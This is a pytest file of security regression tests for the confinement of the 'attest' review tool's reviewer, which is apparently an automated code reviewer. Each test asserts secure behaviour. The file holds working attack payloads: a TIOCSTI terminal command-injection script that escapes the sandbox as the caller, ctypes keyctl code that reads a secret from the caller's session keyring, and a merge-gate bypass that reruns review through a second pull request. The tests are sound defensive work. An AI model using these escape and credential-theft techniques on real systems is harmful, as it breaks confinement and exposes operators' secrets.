"""Attack review of the reviewer's confinement (a41e965) and its neighbours: each test performs the attack end to end.

Each test asserts the SECURE behaviour, so it fails while the attack works.
"""

# The bootstrap fixtures (dep, skill) are imported from test_bootstrap, so their parameters shadow the imports.

from __future__ import annotations

import os
import pty
import select
import subprocess
import sys
import time
from pathlib import Path

import pytest
from test_bootstrap import Deployment, make_consumer, run

PY = sys.executable
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def handoff(dep: Deployment, skill: tuple[Path, Path], tmp_path: Path) -> Path:
    c = make_consumer(tmp_path / "consumer", dep.sha)
    return Path(run(dep, skill, c, tmp_path).handoff)


# -- the reviewer holds the caller's terminal ---------------------------------------------------------------------------

# The reviewer pushes a command line into the input queue of its controlling terminal (TIOCSTI): the
# terminal of the operator who ran `attest review exec`, whose shell reads and runs it as the caller once
# attest returns. It then prints an honest result, so the run itself succeeds.
_INJECTOR = r"""
"$ATTEST_IMAGE_RUNTIME/bin/python" -I -c '
import fcntl, sys, termios
for fd in (0, 1, 2):
    try:
        for b in sys.argv[1].encode():
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([b]))
        break
    except OSError as e:
        sys.stderr.write("TIOCSTI on %d: %s\n" % (fd, e))
' "touch $1
" >&2 || true
printf '{"complete": false, "limitations": [], "findings": []}'
"""

# The caller: an operator's shell that runs `attest review exec` and then reads its next command line from
# the terminal (as an interactive shell does), with a timeout so a safe reviewer just ends the test (typed keys are
# queued before attest returns: 2 s is ample).
_OPERATOR = r"""
"$@" > "$ATK_OUT" 2> "$ATK_ERR"
echo "attest exited $?" >> "$ATK_ERR"
if read -r -t 2 line; then eval "$line"; fi
"""


def test_attack_the_reviewer_injects_a_command_into_the_callers_terminal(dep: Deployment, handoff: Path, tmp_path: Path) -> None:
    """The reviewer shares the caller's session and terminal (stdin/stderr inherited, no setsid): TIOCSTI escapes it.

    Build steps run in a new session with stdin /dev/null (attest.builder._capture.run_captured: "no
    controlling terminal"); the reviewer of `attest review exec` does not, so a command it types into the
    terminal runs outside every namespace, as the caller (root, here), after attest returns.
    """
    marker = tmp_path / "written-by-the-reviewer-outside-its-confinement"
    out, err = tmp_path / "exec.out", tmp_path / "exec.err"
    argv = [PY, "-m", "attest", "review", "exec", "--handoff", str(handoff), "--policy", str(dep.trust),
            "--state-dir", str(dep.state), "-o", str(tmp_path / "result.json"), "--json", "--",
            "/bin/sh", "-c", _INJECTOR, "reviewer", str(marker)]
    env = {**os.environ, "ATK_OUT": str(out), "ATK_ERR": str(err)}
    pid, master = pty.fork()
    if pid == 0:  # the operator's shell, its controlling terminal the pty's slave
        try:
            os.chdir(ROOT)
            os.execve("/bin/bash", ["/bin/bash", "-c", _OPERATOR, "operator", *argv], env)
        finally:
            os._exit(127)
    echoed = b""
    done = 0
    deadline = time.monotonic() + 600
    while time.monotonic() < deadline:
        ready, _, _ = select.select([master], [], [], 0.5)
        if ready:
            try:
                chunk = os.read(master, 4096)
            except OSError:
                break
            if not chunk:
                break
            echoed += chunk
        done, _ = os.waitpid(pid, os.WNOHANG)
        if done:
            break
    else:
        os.kill(pid, 9)
    if not done:
        os.waitpid(pid, 0)
    os.close(master)
    log = err.read_text(errors="replace") if err.exists() else ""
    assert "attest exited 0" in log, log[-3000:]  # the review ran, and succeeded
    assert not marker.exists(), ("the reviewer typed a command into the caller's terminal and the caller's shell ran it, "
                                 f"outside the confinement: {echoed[-400:]!r}")
    assert b"touch " not in echoed, f"the reviewer's keystrokes reached the caller's terminal: {echoed[-400:]!r}"


# -- the reviewer holds the caller's session keyring --------------------------------------------------------------------

# The caller keeps a secret in its session keyring (keyctl add user NAME SECRET @s, as Kerberos KEYRING:
# caches, ecryptfs, fscrypt, CIFS/NFS credential helpers and systemd's password agents do). The
# reviewer, a process of another uid in new mount/PID/IPC/UTS/net namespaces, still has that session
# keyring, so it possesses (and may read) every key there: it prints the secret into its result.
_KEY_NAME = b"attest-attack-secret"
_READ_KEY = rf"""
"$ATTEST_IMAGE_RUNTIME/bin/python" -I -c '
import ctypes, json
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
SYS_KEYCTL, KEYCTL_SEARCH, KEYCTL_READ, SESSION = 250, 10, 11, -3
key = libc.syscall(SYS_KEYCTL, KEYCTL_SEARCH, SESSION, b"user", b"{_KEY_NAME.decode()}", 0)
buf = ctypes.create_string_buffer(4096)
n = libc.syscall(SYS_KEYCTL, KEYCTL_READ, ctypes.c_long(key), buf, 4096) if key > 0 else -1
got = buf.raw[:n].decode("latin-1") if n > 0 else "errno %d" % ctypes.get_errno()
print(json.dumps({{"complete": False, "limitations": ["keyring: " + got], "findings": []}}))
'
"""

# The caller: join a fresh session keyring (so the host's is never touched), add the secret, exec attest.
_WITH_SECRET_IN_KEYRING = r"""
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
SYS_ADD_KEY, SYS_KEYCTL, KEYCTL_JOIN_SESSION_KEYRING, SESSION = 248, 250, 1, -3
if libc.syscall(SYS_KEYCTL, KEYCTL_JOIN_SESSION_KEYRING, b"attest-attack-session") < 0:
    sys.exit("cannot join a session keyring: errno %d" % ctypes.get_errno())
secret = os.environ.pop("ATK_SECRET").encode()
if libc.syscall(SYS_ADD_KEY, b"user", sys.argv[1].encode(), secret, len(secret), SESSION) < 0:
    sys.exit("cannot add the key: errno %d" % ctypes.get_errno())
os.execv(sys.executable, [sys.executable, *sys.argv[2:]])
"""


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the reviewer calls keyctl by its x86-64 syscall number")
def test_attack_the_reviewer_reads_the_callers_session_keyring(dep: Deployment, handoff: Path, tmp_path: Path) -> None:
    import json
    import secrets

    secret = "attest-keyring-secret-" + secrets.token_hex(12)
    out = tmp_path / "result.json"
    proc = subprocess.run([PY, "-c", _WITH_SECRET_IN_KEYRING, _KEY_NAME.decode(), "-m", "attest", "review", "exec",
                           "--handoff", str(handoff), "--policy", str(dep.trust), "--state-dir", str(dep.state),
                           "-o", str(out), "--json", "--", "/bin/sh", "-c", _READ_KEY],
                          capture_output=True, cwd=ROOT, env={**os.environ, "ATK_SECRET": secret}, check=False, timeout=600)
    assert proc.returncode == 0, proc.stderr.decode()[-3000:]
    doc = json.loads(proc.stdout)
    assert doc["confinement"]["confined"] is True
    result = out.read_text()
    assert secret not in result, ("the confined reviewer read the caller's session keyring and put the secret into its "
                                  f"result ({doc['confinement']['mode']}, uid {doc['confinement']['uid']}): {result}")


# -- the head's history is keyed by the pull request, not by the head -----------------------------------------------------

def test_attack_a_second_pull_request_of_the_same_head_clears_its_blocking_analysis(tmp_path: Path) -> None:
    """Head H was analysed in pull request 7 and blocked (a signed record of the deployment's state says so). The author
    opens pull request 8 from the same branch (same repository, same base, the very same head commit): its review starts
    with no history, a nondeterministic, PR-steered reviewer comes back clean, and the gate authorizes merging H through
    pull request 8. docs/review.md: "a pull request that can make its reviewer fail could otherwise retry (new reviews of
    the same head) until one comes back clean"; "A clean review of the head, in this state or anywhere else, never clears
    them; only a new head can." Here a new pull request can."""
    import json

    import test_attack_serialize as ta

    from attest.attestation import load_policy
    from attest.review.bootstrap import IdentityFile
    from attest.review.merge import CI_RESULT_PREDICATE, merge_gate_check

    policy, deploy, ci_key = ta.trust(tmp_path, ci_roles=[CI_RESULT_PREDICATE])
    state = ta.empty_state(tmp_path)
    (state / "records").mkdir(mode=0o700)
    blocking = ta.record_predicate(ta.H_NEW, review="1" * 32, findings={"total": 1, "blocking": 1, "inline": 0, "in_body": 1},
                                   event="REQUEST_CHANGES")
    ta.sign_record(deploy, blocking, state / "records" / f"{'1' * 32}.json")  # pull request 7 (id 99001): blocked
    pr8 = {"id": 99002, "number": 8}
    clean = ta.sign_record(deploy, ta.record_predicate(ta.H_NEW, review="2" * 32, pull_request=pr8), tmp_path / "clean.json")
    ci = ta.sign_ci(ci_key, ta.H_NEW, tmp_path / "ci.json")
    ident = tmp_path / "id.json"
    ident.write_text(json.dumps({"repository": {"id": 4242, "full_name": "acme/widgets"}, "pull_request": pr8,
                                 "base": {"sha": ta.BASE}, "head": {"sha": ta.H_NEW}}))
    gate = merge_gate_check(record=clean, policy=load_policy(policy), host=IdentityFile(str(ident)), ci=[ci],
                            required_checks=("test",), state_dir=state)
    assert not gate.authorized, ("the gate authorized merging head H through pull request 8 although the deployment's "
                                 "state holds a blocking analysis of the same head (pull request 7)")
    assert "MERGE_BLOCKING_FINDINGS" in [f.code for f in gate.findings]
